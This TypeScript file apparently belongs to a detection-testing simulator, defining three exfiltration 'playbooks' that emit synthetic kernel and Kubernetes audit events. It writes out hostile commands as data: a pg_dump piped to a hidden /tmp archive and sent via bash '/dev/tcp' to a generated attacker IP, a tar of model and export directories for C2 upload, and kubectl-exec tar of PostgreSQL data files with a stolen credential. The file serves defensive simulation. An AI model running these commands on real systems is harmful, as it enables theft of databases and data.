/**
 * Data theft: a database dump pushed out through bash's /dev/tcp from
 * PostgreSQL's COPY … TO PROGRAM (T1048), a Python implant uploading staged
 * archives over its HTTPS C2 channel (T1041), and `kubectl cp` of the database
 * files with a stolen credential, at an hour nobody works (T1048).
 */
import { auditRequest } from '../background/platform.ts';
import { MINUTE, MS, SECOND } from '../background/helpers.ts';
import { attackerIp } from '../destinations.ts';
import { connected, dupToSocket, execve, opened } from '../events.ts';
import { RUNC, shimOf, SYSTEMD } from '../facts.ts';
import { proc } from '../model.ts';
import { bin, foothold, shC, type Playbook } from './playbook.ts';

const KIND = 'exfiltration' as const;

export const postgresDevTcp: Playbook = {
  kind: KIND,
  technique: 'T1048',
  techniqueName: 'Exfiltration Over Alternative Protocol',
  variant: 'pg-dev-tcp',
  roles: ['postgres'],
  run(ctx, c) {
    const { rng } = ctx;
    const f = foothold(c);
    // COPY … TO PROGRAM runs in a backend process: a fork of the postmaster.
    const backend = { ...c.init, sessionLeader: false };
    const chain0 = [backend, ...f.chain];
    const stage = `/tmp/.${rng.chars('abcdefghijklmnopqrstuvwxyz', 3)}.gz`;
    const dump = shC(`pg_dump -U app shop | gzip > ${stage}`, c.init.cwd);
    ctx.kernel(0, { op: 'exec', facts: execve(c, [dump, ...chain0]) });
    ctx.kernel(3 * MS, {
      op: 'exec',
      facts: execve(c, [
        bin('/usr/lib/postgresql/16/bin/pg_dump', '-U app shop', c.init.cwd),
        dump,
        ...chain0,
      ]),
    });
    ctx.kernel(4 * MS, {
      op: 'exec',
      facts: execve(c, [bin('/usr/bin/gzip', '', c.init.cwd), dump, ...chain0]),
    });
    const dt = rng.uniform(20, 180) * SECOND;
    const ip = attackerIp(rng);
    const port = rng.pick([8443, 443, 9443, 2053]);
    const send = shC(`bash -c 'cat ${stage} > /dev/tcp/${ip}/${port}'`, c.init.cwd);
    ctx.kernel(dt, { op: 'exec', facts: execve(c, [send, ...chain0]) });
    const bash = proc('/usr/bin/bash', `-c cat ${stage} > /dev/tcp/${ip}/${port}`, c.init.cwd, {
      exe: 'bash',
    });
    const bChain = [bash, send, ...chain0];
    ctx.kernel(dt + 3 * MS, { op: 'exec', facts: execve(c, bChain) });
    ctx.kernel(dt + 5 * MS, { op: 'connect', facts: connected(rng, c, bChain, { ip, port }) });
    ctx.kernel(dt + 6 * MS, { op: 'dup', facts: dupToSocket(rng, c, bChain, { ip, port }) });
    ctx.kernel(dt + 7 * MS, {
      op: 'exec',
      facts: execve(c, [bin('/usr/bin/cat', stage, c.init.cwd), ...bChain]),
    });
  },
};

export const c2Upload: Playbook = {
  kind: KIND,
  technique: 'T1041',
  techniqueName: 'Exfiltration Over C2 Channel',
  variant: 'c2-upload',
  roles: ['ml-api'],
  run(ctx, c) {
    const { rng } = ctx;
    const f = foothold(c);
    const c2 = { ip: attackerIp(rng), port: rng.pick([8443, 2083, 4443]) };
    // The implant lives in the Python process: beacons, then chunked uploads, all from python3.
    let dt = 0;
    for (let i = rng.between(2, 4); i > 0; i--) {
      ctx.kernel(dt, { op: 'connect', facts: connected(rng, c, f.chain, c2) });
      dt += rng.uniform(20, 60) * SECOND;
    }
    const sh = shC('tar czf /tmp/.m.tgz /srv/models /srv/data/exports', c.init.cwd);
    ctx.kernel(dt, { op: 'exec', facts: execve(c, [sh, ...f.chain]) });
    ctx.kernel(dt + 3 * MS, {
      op: 'exec',
      facts: execve(c, [
        bin('/usr/bin/tar', 'czf /tmp/.m.tgz /srv/models /srv/data/exports', c.init.cwd),
        sh,
        ...f.chain,
      ]),
    });
    dt += rng.uniform(30, 120) * SECOND;
    for (let i = rng.between(3, 8); i > 0; i--) {
      ctx.kernel(dt, { op: 'connect', facts: connected(rng, c, f.chain, c2) });
      dt += rng.uniform(1, 15) * SECOND;
    }
  },
};

export const kubectlCopy: Playbook = {
  kind: KIND,
  technique: 'T1048',
  techniqueName: 'Exfiltration Over Alternative Protocol',
  variant: 'kubectl-cp',
  roles: ['postgres'],
  run(ctx, c) {
    const { rng, cluster } = ctx;
    const user = rng.chance(0.5) ? 'system:serviceaccount:ci:gitlab-deployer' : rng.pick(cluster.admins).user;
    const dir = '/var/lib/postgresql/data/base';
    ctx.emit(
      0,
      'auditExec',
      auditRequest(cluster, {
        'ka.user.name': user,
        'ka.target.name': c.pod.name,
        'ka.target.namespace': c.pod.namespace,
        'ka.target.subresource': 'exec',
        'ka.uri.param[command]': 'tar',
      }),
    );
    const tar = proc('/usr/bin/tar', `cf - -C ${dir} .`, c.init.cwd, { exe: 'tar', sessionLeader: true });
    const chain = [tar, RUNC, shimOf(c), SYSTEMD];
    ctx.kernel(300 * MS, { op: 'exec', facts: execve(c, chain) });
    let dt = 300 * MS;
    const oid = rng.between(16384, 16999);
    for (let i = rng.between(3, 8); i > 0; i--) {
      dt += rng.uniform(0.05, 3) * SECOND;
      ctx.kernel(dt, { op: 'open', facts: opened(c, chain, `${dir}/${oid}/${rng.between(1247, 99999)}`) });
    }
    if (rng.chance(0.5)) {
      dt += rng.uniform(1, 5) * MINUTE;
      ctx.emit(
        dt,
        'auditExec',
        auditRequest(cluster, {
          'ka.user.name': user,
          'ka.target.name': c.pod.name,
          'ka.target.namespace': c.pod.namespace,
          'ka.target.subresource': 'exec',
          'ka.uri.param[command]': 'tar',
        }),
      );
      ctx.kernel(dt + 300 * MS, {
        op: 'exec',
        facts: execve(c, [
          { ...tar, args: 'cf - -C /var/lib/postgresql/data/pg_wal .' },
          RUNC,
          shimOf(c),
          SYSTEMD,
        ]),
      });
      ctx.kernel(dt + 400 * MS, {
        op: 'open',
        facts: opened(
          c,
          [{ ...tar, args: 'cf - -C /var/lib/postgresql/data/pg_wal .' }, RUNC, shimOf(c), SYSTEMD],
          '/var/lib/postgresql/data/pg_wal/000000010000002A000000C1',
        ),
      });
    }
  },
};

export const EXFILTRATION_PLAYBOOKS: readonly Playbook[] = [postgresDevTcp, c2Upload, kubectlCopy];
